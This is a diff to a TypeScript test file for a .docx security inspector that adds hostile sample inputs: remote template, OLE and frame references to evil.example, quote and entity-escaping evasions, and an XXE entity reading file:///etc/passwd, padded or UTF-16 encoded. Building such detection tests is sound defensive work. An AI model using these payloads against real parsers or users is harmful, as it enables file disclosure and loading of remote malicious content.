@@ -6,11 +6,13 @@ import { inspectInPortions, NOT_WHOLE, inspectSample } from '../../testing/inspe
 import { docxOf, minimalDocx, part, zipOf } from '../../testing/sample-zips.ts'
 import { inspectStored } from '../inspection.ts'
 
-const references = (target: string) =>
+const references = (target: string, type = 'attachedTemplate', quote = '"') =>
   part(
     'word/_rels/settings.xml.rels',
-    `<Relationship Type="http://schemas.example/attachedTemplate" Target="${target}" TargetMode="External"/>`,
+    `<Relationship Type="http://schemas.example/${type}" Target="${target}"/>`.replaceAll('"', quote),
   )
+const DTD = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:x/>'
+const wide = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le')
 const zeros = (size: number) => Buffer.alloc(size)
 const nested = (depth: number): Buffer =>
   depth === 0 ? docxOf() : docxOf(part('word/embeddings/inner.docx', nested(depth - 1)))
@@ -19,7 +21,22 @@ test.each([
   ['a letter', [], docxOf()],
   ['a letter from its own template', [], docxOf(references('file:///C:/Letter.dotx'))],
   ['a letter from a template elsewhere', ['scripts'], docxOf(references('https://evil.example/a.dotm'))],
+  ['a letter with an image elsewhere', [], docxOf(references('https://a.example/a.png', 'image'))],
+  [
+    'a template elsewhere in other quotes',
+    ['scripts'],
+    docxOf(references('https://evil.example', 'attachedTemplate', "'")),
+  ],
+  [
+    'a template elsewhere, escaped',
+    ['scripts'],
+    docxOf(references('https://a.example', '&#97;ttachedTemplate')),
+  ],
+  ['an object elsewhere', ['scripts'], docxOf(references('https://evil.example/a.rtf', 'oleObject'))],
+  ['a frame elsewhere', ['scripts'], docxOf(references('https://evil.example/', 'frame'))],
+  ['an imported part', ['attachments'], docxOf(references('a.html', 'aFChunk'))],
   ['a table within', ['attachments'], nested(1)],
+  ['an object without a known beginning', ['attachments'], docxOf(part('word/embeddings/o.bin', 'x'))],
   [
     'an object within',
     ['attachments'],
@@ -40,6 +57,11 @@ test.each([
   ['macros by content', docxOf(part('word/media/image1.png', compoundOf('VBA'))), /macros/],
   ['macros within', docxOf(part('word/x.docx', docxOf(part('vbaProject.bin', 'x')))), /macros/],
   ['a program', docxOf(part('word/media/image1.emf', 'MZ\u0090\u0000')), /contains a program/],
+  ['a document type', docxOf(part('word/a.xml', DTD)), NOT_WHOLE],
+  ['a document type late in a part', docxOf(part('word/a.xml', ' '.repeat(65_530) + DTD)), NOT_WHOLE],
+  ['a document type in wide characters', docxOf(part('word/a.xml', wide(DTD))), NOT_WHOLE],
+  ['a document type in a reference', docxOf(part('word/_rels/a.rels', DTD)), NOT_WHOLE],
+  ['a document type of content types', zipOf(minimalDocx(DTD)), NOT_WHOLE],
   ['a bomb', docxOf(part('word/a.xml', zeros(40_000_000))), /unpacks to far more/],
   ['many entries', docxOf(...Array.from({ length: 5000 }, (_, n) => part(`word/${n}`, ''))), /far more/],
   ['a bomb that lies', docxOf(part('word/a.xml', zeros(40_000_000), { claimedSize: 10 })), NOT_WHOLE],
